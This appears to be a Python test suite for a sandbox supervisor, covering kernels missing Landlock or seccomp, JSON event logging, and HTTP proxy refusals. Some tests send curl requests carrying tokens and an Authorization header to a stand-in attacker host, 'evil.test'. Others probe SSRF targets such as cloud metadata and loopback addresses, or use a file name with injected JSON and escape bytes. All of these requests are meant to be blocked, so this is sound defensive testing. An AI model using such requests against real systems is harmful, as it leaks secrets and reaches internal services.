"""Attacks on the supervisor itself, and what it says: logs, refusals, hosts that refuse a feature."""
import json
import os
import pathlib
import re
import socket
import subprocess
import sys

import lab
from lab import CURL, PYTHON, LabTest, Origin, Sandbox, endpoint, policy, rule, run, wait_for

# Starts a command on a "kernel" without one system call: python3 -c LACKING NUMBER ERRNO COMMAND...
LACKING = '''
import ctypes, os, struct, sys
number, code = int(sys.argv[1]), int(sys.argv[2])
ins = lambda op, jt, jf, k: struct.pack("HBBI", op, jt, jf, k)
code = ins(0x20, 0, 0, 0) + ins(0x15, 0, 1, number) + ins(0x06, 0, 0, 0x50000 | code) + ins(0x06, 0, 0, 0x7fff0000)
buf = ctypes.create_string_buffer(code)
class Prog(ctypes.Structure): _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
l = ctypes.CDLL(None, use_errno=True)
assert l.prctl(38, 1, 0, 0, 0) == 0
assert l.prctl(22, 2, ctypes.byref(Prog(4, ctypes.addressof(buf))), 0, 0) == 0, ctypes.get_errno()
os.execv(sys.argv[3], sys.argv[3:])
'''
ENOSYS, EOPNOTSUPP, EPERM = 38, 95, 1
LANDLOCK_CREATE_RULESET, UNSHARE, SECCOMP = 444, 272, 317


def lacking(number, code):
    return [sys.executable, '-c', LACKING, str(number), str(code)]


class Host(LabTest):
    def test_121_kernel_without_landlock(self):
        for code in (ENOSYS, EOPNOTSUPP, EPERM):
            with self.subTest(code=code):
                got = run(policy(), ['echo', 'ran'], launcher=lacking(LANDLOCK_CREATE_RULESET, code))
                self.assertEqual((got.code, got.out), (0, 'ran\n'), got)        # best_effort is the default
                self.assertIn('files are NOT confined: Landlock is', got.err)
                self.assertIn('files NOT restricted (no landlock)', got.err)
                self.assertNotRegex(got.err, r'landlock ABI \d')
                got = run(policy(landlock={'compatibility': 'hard_requirement'}), ['echo', 'ran'],
                          launcher=lacking(LANDLOCK_CREATE_RULESET, code))
                self.assertEqual((got.code, got.out), (1, ''), got)
                self.assertIn('andlock', got.err)

    def test_host_that_refuses_namespaces_or_filters_ends_the_start(self):
        for number, cause in ((UNSHARE, 'user namespace' if lab.ROOTLESS else 'network namespace'), (SECCOMP, 'system call filter')):
            with self.subTest(number=number), self.leaves_nothing():
                got = run(policy(), ['echo', 'ran'], launcher=lacking(number, EPERM))
                self.assertEqual((got.code, got.out), (1, ''), got)
                self.assertIn(cause, got.err, got)
                self.assertNotIn('enforcing', got.err, got)


    def test_host_that_only_pretends_is_found_out(self):
        """Calls that say success and do nothing: what is enforced is looked at, not believed."""
        calls = {'landlock_restrict_self': 446, 'seccomp': 317, 'setresuid': 117, 'setresgid': 119, 'setgroups': 116,
                 'capset': 126, 'prctl': 157, 'unshare': 272}
        if lab.ROOTLESS:
            del calls['setgroups']      # not called: the caller's groups stay
        for name, number in calls.items():
            with self.subTest(name=name), self.leaves_nothing():
                got = run(policy(), ['echo', 'ran'], launcher=lacking(number, 0))
                self.assertEqual((got.code, got.out), (1, ''), got)
                self.assertNotIn('enforcing', got.err, got)

    def test_host_that_only_pretends_to_change_namespaces(self):
        """The leaf stays in the sealed namespace then, and so does everything that it starts."""
        code = (f'import socket\ntry: socket.create_connection(("{lab.ORIGIN}",80),3); print("OUT")\nexcept OSError as e: print(type(e).__name__)')
        with Origin() as origin:
            got = run(policy(), ['/usr/bin/python3', '-c', code], launcher=lacking(308, 0))
        self.assertNotIn('OUT', got.out, got)
        self.assertEqual(origin.connections, 0)


class Logs(LabTest):
    def log(self, *command, doc=None, **more):
        path = pathlib.Path('/run/lab/events.jsonl')
        path.unlink(missing_ok=True)
        got = run(doc or policy({'w': rule(endpoint())}), command, args=['--log-file', str(path)], **more)
        text = path.read_text()
        return got, text, [json.loads(l) for l in text.splitlines()]

    def test_every_event_is_one_json_line(self):
        with Origin():
            got, text, rows = self.log('sh', '-c', f'{CURL} -s http://origin.test/a?token=hush >/dev/null; '
                                       f'{CURL} -s -H "Authorization: hush" -d body=hush http://evil.test/b?token=hush')
        self.assertTrue(text.endswith('\n'))
        denial = [r for r in rows if r.get('host') == 'evil.test']
        self.assertEqual(len(denial), 1, text)
        self.assertEqual((denial[0]['port'], denial[0]['binary'], denial[0]['path']), (80, CURL, '/b'))
        self.assertTrue([r for r in rows if r.get('host') == 'origin.test'], text)
        self.assertNotIn('hush', text + got.err)
        self.assertEqual(os.stat('/run/lab/events.jsonl').st_mode & 0o777, 0o600)

    def test_107_what_a_peer_is_called_stays_text(self):
        tool = pathlib.Path('/opt/lab/a\n{"x":1}\x1b[2J\u202e')
        tool.write_bytes(pathlib.Path(CURL).read_bytes())
        tool.chmod(0o755)
        self.addCleanup(tool.unlink)
        got, text, rows = self.log(str(tool), '-s', 'http://evil.test/')
        self.assertEqual(len([r for r in rows if r.get('host') == 'evil.test']), 1, text)
        self.assertNotIn('\x1b', text + got.err)
        self.assertFalse([l for l in got.err.splitlines() if l.startswith('{')], got)

    def test_113_flood_of_denials_is_bounded_and_counted(self):
        code = ('import socket\nfor i in range(3000):\n s=socket.create_connection(("10.200.0.1",3128))\n'
                ' s.sendall(b"CONNECT h%d.test:80 HTTP/1.1\\r\\n\\r\\n"%i); s.recv(4096); s.close()')
        got = run(policy(), ['/usr/bin/python3', '-c', code], seconds=120)
        self.assertEqual(got.code, 0, got)
        self.assertLess(len(got.err.splitlines()), 1500)
        self.assertRegex(got.err, r'\d+ events were too many to show|events were not reported')

    def test_log_file_that_could_be_somebody_elses_is_refused(self):
        victim = pathlib.Path('/run/lab/victim')
        victim.write_text('mine')
        link, hard = pathlib.Path('/run/lab/link'), pathlib.Path('/run/lab/hard')
        link.symlink_to(victim)
        os.link(victim, hard)
        self.addCleanup(lambda: [p.unlink() for p in (victim, link, hard)])
        for path in (link, hard, pathlib.Path('/dev/null')):
            got = run(policy(), ['true'], args=['--log-file', str(path)])
            self.assertEqual(got.code, 1, got)
        self.assertEqual(victim.read_text(), 'mine')


class Refusals(LabTest):
    """spec/network 1.5, 1.7, 1.8: the exact answers."""

    def ask(self, *messages, doc=None):
        code = ('import socket,sys,json\nfor m in json.loads(sys.argv[1]):\n s=socket.create_connection(("10.200.0.1",3128)); s.settimeout(15)\n'
                ' s.sendall(m.encode("latin1")); b=b""\n while d:=s.recv(65536): b+=d\n print(json.dumps(b.decode("latin1")))')
        doc = doc or {'w': rule(endpoint(), endpoint('closed.test', 81), binaries=(PYTHON,))}
        got = run(policy(doc), ['/usr/bin/python3', '-c', code, json.dumps(messages)])
        self.assertEqual(got.code, 0, got)
        return [json.loads(l) for l in got.out.splitlines()]

    def check(self, answer, status, error, detail, reason=None):
        head, body = answer.split('\r\n\r\n', 1)
        lines = head.split('\r\n')
        self.assertTrue(lines[0].startswith(f'HTTP/1.1 {status} '), answer)
        self.assertEqual(lines[1:], ['Content-Type: application/json', f'Content-Length: {len(body)}', 'Connection: close'])
        got = json.loads(body)
        self.assertEqual((got['error'], got['detail']), (error, detail))
        if reason:
            self.assertIn(reason, got['reason'])

    def test_json_refusals(self):
        with open('/etc/hosts', 'a') as f:
            f.write(f'{lab.ORIGIN} closed.test\n')
        a = self.ask('CONNECT Evil.TEST:443 HTTP/1.1\r\n\r\n', 'GET http://evil.test/x?q HTTP/1.1\r\n\r\n',
                     'CONNECT closed.test:81 HTTP/1.1\r\n\r\n', 'GET http://closed.test:81/ HTTP/1.1\r\n\r\n',
                     'GET ftp://origin.test/ HTTP/1.1\r\n\r\n')
        self.check(a[0], 403, 'policy_denied', 'CONNECT evil.test:443 not permitted by policy', 'endpoint evil.test:443 is not allowed by any policy')
        self.check(a[1], 403, 'policy_denied', 'GET evil.test:80/x not permitted by policy', 'endpoint evil.test:80 is not allowed')
        self.check(a[2], 502, 'upstream_unreachable', 'connection to closed.test:81 failed')
        self.check(a[3], 502, 'upstream_unreachable', 'connection to closed.test:81 failed')
        self.check(a[4], 400, 'unsupported_proxy_scheme', 'Forward proxy requests must use http')

    def test_fixed_refusals(self):
        a = self.ask('GET https://origin.test/ HTTP/1.1\r\n\r\n', 'GET http://origin.test/ HTTP/1.1\r\nX: ' + 'a' * 9000)
        self.assertEqual(a[0], 'HTTP/1.1 400 Bad Request\r\nContent-Length: 26\r\n\r\nUse CONNECT for HTTPS URLs')
        self.assertEqual(a[1], 'HTTP/1.1 431 Request Header Fields Too Large\r\n\r\n')

    def test_destination_refusals_name_the_plan(self):
        doc = {'w': rule(endpoint('rebind.test'), endpoint('meta.test'), endpoint('*.wide.test'),
                         endpoint('internal.test', allowed_ips=['10.78.0.0/16']), {'host': 'origin.test', 'port': 6443}, binaries=(PYTHON,))}
        with open('/etc/hosts', 'a') as f:
            f.write('10.77.0.10 a.wide.test\n')
        a = self.ask(*[f'CONNECT {t} HTTP/1.1\r\n\r\n' for t in ('rebind.test:80', 'meta.test:80', 'a.wide.test:80', 'internal.test:80',
                                                                'origin.test:6443')], doc=doc)
        self.check(a[0], 403, 'ssrf_denied', 'CONNECT rebind.test:80 blocked: declared endpoint check failed', 'always-blocked address 127.0.0.1')
        self.check(a[1], 403, 'ssrf_denied', 'CONNECT meta.test:80 blocked: declared endpoint check failed', '169.254.169.254')
        self.check(a[2], 403, 'ssrf_denied', 'CONNECT a.wide.test:80 blocked: internal address', 'resolves to internal address 10.77.0.10')
        self.check(a[3], 403, 'ssrf_denied', 'CONNECT internal.test:80 blocked: allowed_ips check failed', 'not in allowed_ips')
        self.check(a[4], 403, 'ssrf_denied', 'CONNECT origin.test:6443 blocked: declared endpoint check failed', 'control-plane port')

    def test_local_services_that_do_not_exist_yet(self):
        a = self.ask('CONNECT inference.local:443 HTTP/1.1\r\n\r\n', 'GET http://policy.local/v1 HTTP/1.1\r\n\r\n')
        for answer in a:
            self.assertIn('not built yet', answer)
